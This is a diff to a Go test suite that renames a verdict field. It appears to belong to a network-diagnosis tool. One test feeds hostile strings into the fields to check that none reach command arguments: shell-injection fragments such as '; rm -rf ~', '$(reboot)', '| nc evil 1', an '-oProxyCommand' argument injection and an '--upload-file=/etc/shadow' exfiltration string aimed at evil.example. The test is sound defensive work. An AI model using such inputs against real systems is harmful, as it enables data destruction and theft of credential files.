@@ -260,13 +260,13 @@ var hostile = []string{"; rm -rf ~", "$(reboot)", "`id`", "| nc evil 1", "&& cal
 
 func TestHostileInputNeverReachesArgv(t *testing.T) {
 	v := verdict.Verdict{
-		URL:       "https://shop.gw.test/?q=$(reboot)",
-		Side:      verdict.SideUser,
-		Summary:   "x; rm -rf ~ $(reboot) `id`",
-		Gateway:   "| nc evil 1",
-		Error:     "&& calc.exe",
-		PortalURL: "http://-oProxyCommand=x/",
-		Evidence:  []verdict.Step{{Check: "http", Detail: "--upload-file=/etc/shadow \nreboot evil.example"}},
+		URL:         "https://shop.gw.test/?q=$(reboot)",
+		Side:        verdict.SideUser,
+		Summary:     "x; rm -rf ~ $(reboot) `id`",
+		ErrorPageBy: "| nc evil 1",
+		Error:       "&& calc.exe",
+		PortalURL:   "http://-oProxyCommand=x/",
+		Evidence:    []verdict.Step{{Check: "http", Detail: "--upload-file=/etc/shadow \nreboot evil.example"}},
 	}
 	// System answers with hostile text where names and addresses belong.
 	answers := map[string]string{
@@ -371,7 +371,7 @@ func TestElevate(t *testing.T) {
 
 func TestCommonPlans(t *testing.T) {
 	v := verdict.Verdict{URL: "https://shop.gw.test/cart?token=secret", Side: verdict.SideUser, Hop: verdict.HopCaptive,
-		PortalURL: "http://192.0.2.1/login", Gateway: "Cloudflare", Summary: "s"}
+		PortalURL: "http://192.0.2.1/login", ErrorPageBy: "Cloudflare", Summary: "s"}
 	env := fakeEnv("linux", nil, nil, nil)
 	env.Verdict = v
 	env.StatusPage = "https://status.gw.test/"
